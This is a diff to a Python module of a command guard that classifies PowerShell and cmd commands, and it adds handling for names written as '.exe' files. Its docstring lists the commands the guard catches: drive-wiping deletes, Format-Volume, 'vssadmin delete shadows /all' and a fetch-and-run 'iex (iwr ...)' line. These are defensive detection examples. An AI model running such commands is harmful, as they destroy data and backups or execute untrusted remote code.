@@ -1,9 +1,11 @@
 r"""PowerShell and cmd: what their own commands do; programs inside are asked as everywhere.
 
-Caught: ``Remove-Item -Recurse -Force C:\``, ``rd /s /q D:\``, ``cmd /c "rd /s /q \"D:\x y\""`` (in PowerShell
-that is the root of a drive), ``Format-Volume -DriveLetter D``, ``vssadmin delete shadows /all``,
-``Stop-Process -Name node``, ``iex (iwr https://example.com/x.ps1)``.
-Quiet: ``Get-*``, ``-WhatIf``, ``dir /s``, ``rd /s /q node_modules``, ``Select-String``.
+Caught: ``Remove-Item -Recurse -Force C:\`` (in PowerShell), ``rd /s /q D:\`` (in cmd), ``cmd /c "rd /s /q
+\"D:\x y\""`` (in PowerShell: the root of a drive), ``Format-Volume -DriveLetter D`` (in PowerShell),
+``vssadmin delete shadows /all``, ``Stop-Process -Name node`` (in PowerShell), ``iex (iwr
+https://example.com/x.ps1)`` (in PowerShell).
+Quiet: ``Get-ChildItem -Recurse`` (in PowerShell), ``Remove-Item -Recurse C:\x -WhatIf`` (in PowerShell),
+``dir /s`` (in cmd), ``rd /s /q node_modules`` (in cmd), ``Select-String x y.txt`` (in PowerShell).
 
 Lost: what is deleted; ``Remove-Item`` does not use the recycle bin.
 Back: a shadow copy or a backup, while there is one.
@@ -133,10 +135,12 @@ def _one(command: WindowsCommand, dialect: str, by: Invocation, world: World, de
         return
     own = list(command_effects(command, dialect, by, world))
     yield from own
-    if not own and name and _is_program(name, dialect):
+    if not own and name and (is_file(command.words[0]) or _is_program(name, dialect)):
+        from guard.model import known
         from guard.programs.registry import effects_of
 
-        yield from effects_of(replace(by, argv=command.words), world)
+        first = known(name) if is_file(command.words[0]) else command.words[0]
+        yield from effects_of(replace(by, argv=(first, *command.words[1:])), world)
 
 
 def program_name(word: Value) -> str:
@@ -145,6 +149,11 @@ def program_name(word: Value) -> str:
     for ending in (".exe", ".cmd", ".bat", ".com"):
         text = text.removesuffix(ending)
     return text
+
+
+def is_file(word: Value) -> bool:
+    """Written as a file, so that no alias is meant: ``sc.exe`` is not the ``sc`` of PowerShell."""
+    return (word.text or "").lower().endswith(".exe")
 
 
 def _is_program(name: str, dialect: str) -> bool:
